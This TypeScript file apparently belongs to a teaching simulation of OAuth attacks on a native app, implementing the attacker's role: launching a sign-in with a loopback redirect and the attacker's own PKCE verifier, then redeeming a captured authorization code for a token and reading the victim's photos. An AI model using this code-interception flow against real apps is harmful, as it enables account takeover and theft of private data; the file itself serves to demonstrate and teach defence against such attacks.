/** The attacker: a program on Ada’s computer that takes the answer, or a page that has her hand it over. */
import { base64url } from 'jose'
import type { ServerGlobals } from '../../simulation/index.ts'
import type { ClientConfig } from './client.ts'

/** What the attacker has got hold of. */
export interface Loot {
  code?: string
  access_token?: string
  photos?: string
}

/** A sign-in of the attacker’s own, in the name of Ada’s app. Nobody waits for its answer on her computer. */
export interface OwnSignIn {
  readonly url: string
  readonly redirect_uri: string
  readonly code_verifier: string
}

/** Begins a sign-in as the app would. Its identifier is public, any port is allowed, and the verifier is the attacker’s. */
export async function beginOwnSignIn({ crypto }: ServerGlobals, config: ClientConfig): Promise<OwnSignIn> {
  // #region lure
  const redirect_uri = 'http://127.0.0.1:49200/callback'
  const code_verifier = base64url.encode(crypto.getRandomValues(new Uint8Array(32)))
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(code_verifier))
  const url = new URL(config.authorization_endpoint)
  url.search = new URLSearchParams({
    response_type: 'code',
    client_id: config.client_id,
    redirect_uri,
    scope: config.scope,
    state: 'step-2',
    code_challenge: base64url.encode(new Uint8Array(digest)),
    code_challenge_method: 'S256',
  }).toString()
  return { url: url.href, redirect_uri, code_verifier }
  // #endregion
}

/** Redeems a code and reads what the token opens. */
export async function redeemCode(
  server: ServerGlobals,
  config: ClientConfig,
  loot: Loot,
  known: { readonly redirect_uri: string; readonly code_verifier?: string },
): Promise<void> {
  const { fetch } = server
  // #region redeem
  const response = await fetch(config.token_endpoint, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code: loot.code ?? '',
      client_id: config.client_id,
      ...known,
    }),
  })
  if (!response.ok) return
  loot.access_token = (await response.json()).access_token
  const authorization = `Bearer ${loot.access_token}`
  loot.photos = await (await fetch(new URL('/photos', config.api), { headers: { authorization } })).text()
  // #endregion
}
